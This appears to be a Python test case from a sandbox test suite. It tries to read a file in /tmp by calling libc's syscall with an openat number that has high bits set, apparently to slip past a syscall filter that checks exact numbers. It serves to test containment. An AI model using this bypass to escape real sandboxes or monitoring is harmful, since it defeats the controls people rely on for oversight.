# class: symbols
# rule: read_write_tmp
# also: native_code
# needs: x86_64
# success: a file in /tmp is read by libc's syscall, by a system call number with high bits set that
#   the kernel ignores
# proof: read
import ctypes
import os

from attack import FILE, attempt, libc


@attempt
def steal():
    number = ctypes.c_ulong(0xDEADBEEF00000101)
    fd = libc().syscall(
        number, ctypes.c_long(-100), FILE.encode(), ctypes.c_long(0), ctypes.c_long(0)
    )
    if fd < 0:
        raise OSError(ctypes.get_errno(), "syscall")
    return os.read(fd, 100)
